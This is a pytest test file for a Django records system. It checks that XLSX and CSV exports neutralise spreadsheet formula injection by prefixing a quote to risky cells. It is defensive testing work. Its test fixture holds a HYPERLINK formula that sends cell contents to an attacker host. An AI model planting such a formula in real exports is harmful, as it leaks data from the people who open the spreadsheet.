"""Exports are data: text that a spreadsheet would run as a formula is written as text (OWASP CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from core.exports import neutralise
from documents.models import Incoming, Outgoing, Recipient, Register
from documents.numbering import register_for
from tests import factories
from tests.reports import data

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem văn bản")'


@pytest.fixture
def province(db):
    return data.province()


@pytest.fixture
def clerk(province):
    return factories.make_member(province["p"], "clerk", unit=province["u1"], position="Văn thư")


def _cells(response):
    assert response.status_code == 200
    return [cell for row in load_workbook(io.BytesIO(response.getvalue())).active.iter_rows() for cell in row]


def _only_text(cells, text):
    found = [cell for cell in cells if isinstance(cell.value, str) and text in cell.value]
    assert found, text
    for cell in found:
        assert cell.data_type == "s" and cell.value.startswith("'"), (cell.coordinate, cell.data_type, cell.value)
    assert not any(cell.data_type == "f" for cell in cells)
    return found


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_trigger_gets_a_quote_and_other_values_pass(text):
    assert neutralise(text) == "'" + text
    assert neutralise("Công văn số 12") == "Công văn số 12"
    assert neutralise(-5) == -5 and neutralise(None) is None


def test_a_mail_subject_that_is_a_formula_lands_as_text_in_the_traffic_xlsx(province, clerk, client_for):
    Incoming.objects.filter(pk=province["i2"].pk).update(summary=FORMULA)  # the subject of the e-mail it came by
    response = client_for(clerk).get("/reports/traffic/", {"start": "01/01/2026", "end": "30/06/2026",
                                                           "export": "xlsx"})
    [cell] = _only_text(_cells(response), "HYPERLINK")
    assert cell.value == "'" + FORMULA


def test_a_name_or_sender_that_is_a_formula_lands_as_text_in_the_register_xlsx(province, clerk, client_for):
    o1 = province["o1"]
    Outgoing.objects.filter(pk=o1.pk).update(register=register_for(province["p"], Register.Kind.OUTGOING))
    Recipient.objects.create(outgoing=o1, kind=Recipient.Kind.EMAIL, email="a@example.com", name=FORMULA)
    Incoming.objects.filter(pk=province["i1"].pk).update(sender_name="@SUM(1+1)", notation="-1+1", arrival_number=1, year=2026)
    client = client_for(clerk)
    outgoing = _cells(client.get("/registers/outgoing/", {"year": 2026, "export": "xlsx"}))
    assert _only_text(outgoing, "HYPERLINK")[0].value.startswith("'" + FORMULA)
    incoming = _cells(client.get("/registers/incoming/", {"year": 2026, "export": "xlsx"}))
    _only_text(incoming, "SUM(1+1)")
    assert _only_text(incoming, "-1+1")[0].value == "'-1+1"


def test_unit_names_that_are_formulas_land_as_text_in_the_usage_xlsx(province, client_for):
    province["u1"].__class__.objects.filter(pk=province["u1"].pk).update(name="+Văn phòng")
    response = client_for(province["people"]["p"]).get("/reports/usage/", {"year": 2026, "half": 1, "export": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for row in book["Theo đơn vị"].iter_rows() for cell in row]
    _only_text(cells, "Văn phòng")


def test_the_directory_csv_neutralises_names_and_positions(client):
    agency = factories.make_agency("=HYPERLINK(\"http://x\")", code="000.00.00.H99", domain="thu.gov.vn")
    factories.make_unit(agency, "-Phòng thử", "PT", official_email="pt@thu.gov.vn")
    factories.make_member(agency, "leader", user=factories.make_user(full_name="@Nguyễn Văn A"),
                          position="\tChủ tịch", official_email="chutich@thu.gov.vn", is_public=True)
    response = client.get("/directory/export.csv")
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=HYPERLINK(\"http://x\")" in cells and "'-Phòng thử" in cells
    assert "'@Nguyễn Văn A" in cells and "'\tChủ tịch" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
